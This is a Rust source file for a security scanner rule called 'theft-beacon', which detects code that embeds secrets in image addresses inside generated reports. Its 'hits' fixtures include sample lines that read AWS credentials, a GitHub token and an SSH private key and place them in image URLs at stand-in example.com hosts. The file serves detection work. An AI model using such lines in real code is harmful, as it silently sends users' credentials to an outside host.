//! `theft-beacon`: a page that is written carries secrets in the address of a
//! picture.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::operation::{Act, Event, Origins, Value};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::{url, vendor};

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-beacon",
    title: "Writes secrets into the address of a picture that a page loads",
    severity: Severity::Blocker,
    confidence: Confidence::Medium,
    why: "Whoever shows the page sends the address, and with it the secret, without a click.",
    fix: "Keep secrets out of what is written for people to look at.",
    references: &["CWE-201", "OWASP-LLM02", "ATT&CK T1567"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import pathlib\nd = pathlib.Path.home().joinpath('.aws/credentials').read_text()\npathlib.Path('report.md').write_text(f'# Report\\n![](https://img.example.com/p.png?d={d})')\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const fs = require('fs');\nconst t = process.env.GITHUB_TOKEN;\nfs.writeFileSync('report.html', `<img src=\"https://px.example.com/i.gif?t=${t}\">`);\n",
        ),
        Sample::File(
            "a.sh",
            "echo \"![](https://img.example.com/p.png?d=$(base64 -w0 ~/.ssh/id_rsa))\" >> report.md\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import os, pathlib\npathlib.Path('report.md').write_text('![](https://img.shields.io/badge/' + os.environ['NAME'] + ')')\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const fs = require('fs');\nfs.writeFileSync('.env.local', `TOKEN=${process.env.GITHUB_TOKEN}`);\n",
        ),
        Sample::File(
            "a.sh",
            "echo '![](https://img.example.com/p.png)' >> report.md\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    if !loads_picture(&unit.text) {
        return;
    }
    for operation in &unit.lowered.operations {
        let content = match &operation.act {
            Act::Write { content, .. } => content,
            Act::Execute {
                program: Some(program),
                command,
                ..
            } if program == "echo" || program == "printf" => command,
            _ => continue,
        };
        if is_secret(content) && command::is_program(unit) {
            reporter.raise_flow(operation.span, &content.way);
            return;
        }
    }
}

fn is_secret(content: &Value) -> bool {
    content.origins.has(Origins::SENSITIVE)
        || content.origins.has(Origins::ENVIRONMENT)
        || content.origins.has(Origins::VARIABLE)
            && content.way.steps().iter().any(
                |step| matches!(&step.event, Event::Variable(name) if vendor::is_secret_name(name)),
            )
}

/// How far behind its sign the address of a picture may stand, in bytes.
const REACH: usize = 200;

/// Whether a picture is loaded from another machine by an address that goes on
/// with a value.
fn loads_picture(text: &str) -> bool {
    const MOST: usize = 32;
    ["![", "<img"]
        .iter()
        .flat_map(|sign| text.match_indices(sign).take(MOST))
        .any(|(at, _)| {
            let mut to = (at + REACH).min(text.len());
            while !text.is_char_boundary(to) {
                to -= 1;
            }
            let around = &text[at..to];
            url::all(around).any(|found| {
                let host = found.host.of(around);
                let behind = &around[found.host.end..];
                let valued = behind
                    .split([')', '>', '\n'])
                    .next()
                    .is_some_and(|rest| rest.contains(['{', '$', '?']));
                host.contains('.')
                    && !url::is_local(host)
                    && vendor::of_host(host).is_none()
                    && valued
            })
        })
}
